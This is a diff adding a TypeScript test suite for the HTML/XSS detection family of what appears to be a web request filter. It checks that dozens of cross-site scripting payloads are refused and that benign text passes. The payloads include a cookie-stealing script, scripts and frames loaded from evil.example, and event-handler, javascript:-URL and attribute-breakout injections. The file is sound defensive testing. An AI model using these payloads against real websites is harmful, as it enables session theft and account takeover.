@@ -1,0 +1,172 @@
+import { describe, expect, it } from "@effect/vitest"
+import type { Paranoia } from "../../../src/internal/detection/families/contract.js"
+import { analyse, family } from "../../../src/internal/detection/families/html/index.js"
+import { tokenizeHtml } from "../../../src/internal/detection/families/html/tokenizer.js"
+
+/** The anomaly score the family gives one already decoded value. */
+const score = (value: string, paranoia: Paranoia = 1): number =>
+  family.mayMatch(value) ? family.scan(value, { location: "query", paranoia }).reduce((sum, f) => sum + f.score, 0) : 0
+
+const refused = (value: string, paranoia: Paranoia = 1) => score(value, paranoia) >= 5
+
+describe("html family: tags that run script", () => {
+  it.each([
+    "<script>fetch('/x?c='+document.cookie)</script>",
+    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
+    "hello <iframe src=//evil.example></iframe>",
+    "<object data=//evil.example/x.swf>",
+    "<embed src=x.swf>",
+    "<base href=//evil.example/>",
+    "<svg:script>alert(1)</svg:script>",
+    "<x foo=\"%><script>alert(1)</script>\">"
+  ])("%s", (value) => {
+    expect(refused(value)).toBe(true)
+  })
+})
+
+describe("html family: event handlers and script URLs", () => {
+  it.each([
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<body onpageshow=print()>",
+    "<x onclick=alert(1)>click",
+    "<details open ontoggle=alert(1)>",
+    "<img src=x onerror =\n alert(1)",
+    "<x:template x:ontimer=\"alert(1)\">",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"  JaVaScRiPt:alert(1)\">x</a>",
+    "<a href=\"java\tscript:alert(1)\">x</a>",
+    "<a href=\"javascript&colon;alert(1)\">x</a>",
+    "<a href=\"&#106avascript:alert(1)\">x</a>",
+    "<form action=vbscript:msgbox(1)><button>go",
+    "<button formaction=javascript:alert(1)>x",
+    "<iframe srcdoc=\"<b>hi</b>\">",
+    "<a href=`javascript:alert(1)`>x</a>",
+    "<p style=\"width:expression(alert(1))\">",
+    "<div style=\"background:url( javascript:alert(1))\">",
+    "<style>body{-moz-binding:url(//evil.example/x.xml#x)}</style>",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<link rel=import href=//evil.example/x.html>",
+    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">"
+  ])("%s", (value) => {
+    expect(refused(value)).toBe(true)
+  })
+})
+
+describe("html family: values that land in an attribute or a script", () => {
+  it.each([
+    "\" onfocus=alert(1) autofocus x=\"",
+    "' onmouseover='alert(1)",
+    "x\" onpointerenter=\"prompt(1)",
+    " onerror=alert(1)>",
+    "javascript:alert(document.domain)",
+    "ja\tvascript:void(0)",
+    "data:text/html,<script>alert(1)</script>",
+    "';alert(1)//",
+    "\"-prompt(1)-\"",
+    "}confirm(1);{//",
+    "self[\"al\"+\"ert\"](1)",
+    "[].sort.call`${alert}1`",
+    "top['document']['cookie']"
+  ])("%s", (value) => {
+    expect(refused(value)).toBe(true)
+  })
+
+  it("adds the bolder attribute and script breaks at level 2", () => {
+    expect(refused("x\" style=\"color:red\" y=\"")).toBe(false)
+    expect(refused("x\" style=\"color:red\" y=\"", 2)).toBe(true)
+    expect(refused("\";doSomething(1);//")).toBe(false)
+    expect(refused("\";doSomething(1);//", 2)).toBe(true)
+    expect(refused("</script>")).toBe(false)
+    expect(refused("</script><p>", 2)).toBe(true)
+  })
+})
+
+describe("html family: text, markup and code that pass at level 1", () => {
+  it.each([
+    "a < b and c > d",
+    "if (x<y && y>z) return",
+    "I <3 this",
+    "<b>bold</b>, <i>italic</i> and <p>a paragraph</p><br>",
+    "<p>Hello <strong>world</strong>, see <a href=\"https://example.com\">our site</a>.</p>",
+    "<img src=\"https://cdn.example.com/a.png\" alt=\"a cat\">",
+    "John Smith <john@example.com>",
+    "Use `<details>` and `<summary>` for disclosure widgets",
+    "JavaScript: The Good Parts",
+    "use eval() carefully",
+    "the onload event fires when the page is ready",
+    "online=true",
+    "https://example.com/?onboarding=1&step=2",
+    "he said \"hi\" -- then left",
+    "rock 'n' roll",
+    "It's 5' 10\" tall",
+    "<table width=\"99%\" border=\"0\">",
+    "{\"html\": \"<ul><li>one</li><li>two</li></ul>\"}",
+    "for (let i = 0; i < arr.length; i++) { total += arr[i]; }",
+    "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\"",
+    "data: 42 rows",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0 Safari/537.36"
+  ])("%s", (value) => {
+    expect(refused(value)).toBe(false)
+  })
+
+  it("rejects ordinary values before tokenizing", () => {
+    for (const value of ["the quick brown fox", "12345", "f47ac10b-58cc-4372-a567-0e02b2c3d479", "Zoë Saldaña", "user+tag@example.com"]) {
+      expect(family.mayMatch(value), value).toBe(false)
+    }
+  })
+})
+
+describe("html family: the tokenizer", () => {
+  const tags = (value: string) => {
+    const seen: Array<string> = []
+    tokenizeHtml(value, "data", {
+      tag: (tag) => seen.push(`${tag.name}[${tag.attributes.map((a) => `${a.name}=${a.value}`).join(",")}]`),
+      endTag: () => undefined,
+      attributeBreak: () => undefined
+    })
+    return seen
+  }
+
+  it("reads attributes quoted, unquoted and separated by slashes, as a browser does", () => {
+    expect(tags("<img/src='a b'/alt=x onerror=\"y\">")).toEqual(["img[src=a b,alt=x,onerror=y]"])
+  })
+
+  it("keeps a tag that the value ends inside: the page supplies the `>`", () => {
+    expect(tags("<svg onload=alert(1)")).toEqual(["svg[onload=alert(1)]"])
+  })
+
+  it("does not take `<` followed by a space or a digit for a tag", () => {
+    expect(tags("a < b, 1 <2")).toEqual([])
+  })
+
+  it("reads markup inside comments, where conditional comments run it", () => {
+    expect(tags("<!--[if IE]><script>x</script><![endif]-->")).toEqual(["script[]"])
+  })
+})
+
+describe("html family: catalogue and cost", () => {
+  it("documents every rule with a stable id, the xss category and a score", () => {
+    const ids = family.rules.map((r) => r.id)
+    expect(new Set(ids).size).toBe(ids.length)
+    for (const rule of family.rules) {
+      expect(rule.id).toMatch(/^html-\d{3}$/)
+      expect(rule.category).toBe("xss")
+    }
+  })
+
+  it.each([
+    ["unclosed tags", "<a"],
+    ["unclosed attributes", "<a x=\""],
+    ["handler-like attributes", "<a onx="],
+    ["style tags", "<style>"],
+    ["comments", "<!--"],
+    ["quotes and brackets", "\"'><"],
+    ["script URLs", "javascript:"]
+  ])("stays linear on repeated %s", (_, fragment) => {
+    // work = characters the tokenizer examined in every context + the linear pattern passes
+    const work = [64, 128, 256, 512].map((kb) => analyse(fragment.repeat(Math.ceil((kb * 1024) / fragment.length))).work)
+    for (let i = 1; i < work.length; i++) expect((work[i] ?? 0) / (work[i - 1] ?? 1)).toBeLessThan(2.1)
+    expect((work[3] ?? 0) / (512 * 1024)).toBeLessThan(32)
+  })
+})
